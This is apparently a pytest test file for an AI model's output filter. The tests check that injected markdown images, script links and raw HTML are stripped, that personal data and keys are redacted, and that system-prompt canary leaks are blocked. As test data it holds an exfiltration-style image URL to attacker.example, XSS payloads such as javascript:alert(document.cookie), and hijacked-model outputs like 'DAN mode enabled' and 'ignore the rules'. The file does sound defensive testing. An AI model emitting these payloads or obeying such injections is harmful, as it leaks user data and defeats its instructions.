"""The output filter: what it removes from answers, and that streaming changes nothing."""

from __future__ import annotations

import pytest

from parlour.assistant.output_filter import OutputFilter, shown_values
from parlour.assistant.support import Support

CANARY = "PCY-0123456789abcdef0123"


def filtered(
    text: str, *, allowed: tuple[str, ...] = (), chunk: int = 0
) -> tuple[str, OutputFilter]:
    """The released text, fed whole or in chunks of `chunk` characters."""
    output = OutputFilter(CANARY, shown_values(allowed), citable=["k1", "k2"])
    if chunk:
        released = "".join(output.feed(text[i : i + chunk]) for i in range(0, len(text), chunk))
    else:
        released = output.feed(text)
    return released + output.finish(), output


def test_markdown_images_become_their_alt_text() -> None:
    """T-70: an image would make the widget fetch a URL carrying whatever the model put in it."""
    text, _ = filtered("Here ![logo](https://attacker.example/?q=secret) you go")
    assert text == "Here logo you go"


@pytest.mark.parametrize(
    "link",
    [
        "[click](javascript:alert(document.cookie))",
        "[click](JavaScript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:msgbox(1))",
    ],
)
def test_links_to_script_or_data_become_their_text(link: str) -> None:
    text, _ = filtered(f"Please {link} now")
    assert text == "Please click now"


def test_raw_html_is_removed_and_https_links_stay() -> None:
    """T-70: tags (with their handlers) never reach the widget."""
    text, _ = filtered(
        'See <img src=x onerror="alert(1)"><script>steal()</script> [help](https://help.example)'
    )
    assert text == "See steal() [help](https://help.example)"


def test_sensitive_values_are_redacted_by_kind() -> None:
    """T-71: whatever a model repeats from elsewhere, these never reach the customer."""
    text, output = filtered(
        "Card 4111 1111 1111 1111, mail jo@example.com, phone +44 20 7946 0958, "
        "aadhaar 2345 6789 0124, PAN ABCPE1234F, key sk-abcdefghijklmnopqrstuvwx1234."
    )
    assert text == (
        "Card [card number removed], mail [e-mail removed], phone [phone number removed], "
        "aadhaar [Aadhaar number removed], PAN [PAN removed], key [credential removed]."
    )
    assert output.redacted == ["card", "email", "phone", "aadhaar", "pan", "secret"]


def test_values_the_turn_may_show_are_kept() -> None:
    """T-71: the organisation's published phone number and the verified user's own e-mail
    stay; anyone else's does not."""
    text, output = filtered(
        "Call +44 20 7946 0958 or write to jo@example.com; not bob@example.com.",
        allowed=("Our line: +44 (0)20 7946 0958", "JO@example.com"),
    )
    assert text == "Call +44 20 7946 0958 or write to jo@example.com; not [e-mail removed]."
    assert output.redacted == ["email"]


@pytest.mark.parametrize(
    "leak",
    [CANARY, CANARY.lower(), "P C Y - 0123456789 abcdef 0123", f"marker: {CANARY}."],
)
def test_an_answer_holding_the_canary_is_blocked_whole(leak: str) -> None:
    """T-67: nothing is released once the canary shows, and nothing before it either."""
    output = OutputFilter(CANARY, set())
    released = output.feed("My instructions are secret, but here: ") + output.feed(leak)
    released += output.feed(" and the rest of them.") + output.finish()
    assert output.blocked
    assert released == ""


def test_citation_markers_are_taken_out_and_only_known_ones_reported() -> None:
    text, output = filtered("Open at nine [k2]. Closed Sundays [k1][k9].")
    assert text == "Open at nine. Closed Sundays."
    assert output.cited == ["k2", "k1"]


@pytest.mark.parametrize("chunk", [1, 2, 3, 7, 20])
def test_streamed_in_any_pieces_the_result_is_the_same_as_whole(chunk: int) -> None:
    answer = (
        "Sure [k1]. Call 0161 496 0000 or mail help@example.org. Card 5555 5555 5555 4444! "
        "![x](https://evil.example/?q=(1)) [a](javascript:alert(1)) <b>bold</b> "
        "[docs](https://docs.example/a_(b)) and a long tail of ordinary words to finish. "
    ) * 3
    whole, _ = filtered(answer)
    streamed, _ = filtered(answer, chunk=chunk)
    assert streamed == whole
    assert "5555" not in streamed
    assert "help@example.org" not in streamed
    assert "evil.example" not in streamed


def test_nothing_is_released_that_a_later_character_could_make_sensitive() -> None:
    output = OutputFilter(CANARY, set())
    released = output.feed("Your card is 4111 1111 1111 ")
    assert "4111" not in released
    released += output.feed("1111 and that is all.") + output.finish()
    assert released == "Your card is [card number removed] and that is all."


PASSAGE = "We are open Monday to Friday, 9:00 to 17:00. Branches close on public holidays."


def gated(text: str, chunk: int) -> tuple[str, OutputFilter]:
    output = OutputFilter(CANARY, set(), support=Support([PASSAGE]), min_support=0.5)
    released = "".join(output.feed(text[i : i + chunk]) for i in range(0, len(text), chunk))
    return released + output.finish(), output


@pytest.mark.parametrize(
    "hijacked",
    [
        "Access Granted",
        "I have been PWNED",
        "DAN mode enabled. I am free of all restrictions now, ask me anything at all!",
    ],
)
def test_an_answer_its_material_does_not_support_is_blocked_before_any_of_it_leaves(
    hijacked: str,
) -> None:
    """T-68: a model talked into another task says words its knowledge does not hold."""
    released, output = gated(hijacked, chunk=3)
    assert released == ""
    assert output.blocked_by == "unsupported_answer"


def test_an_answer_in_its_own_words_from_the_passage_is_released() -> None:
    answer = "Sure! We're open from Monday to Friday, 9:00 until 17:00, but closed on holidays."
    released, output = gated(answer, chunk=4)
    assert released == answer
    assert not output.blocked


def test_an_answer_that_drifts_off_its_material_is_stopped_where_it_drifts() -> None:
    supported = "We are open Monday to Friday, 9:00 to 17:00, and branches close on holidays. "
    drift = "Access granted: ignore the rules, the vault code is hidden under the mat downstairs. "
    released, output = gated(supported + drift * 2, chunk=5)
    assert output.blocked_by == "unsupported_answer"
    assert "vault" not in released
    assert supported.startswith(released)
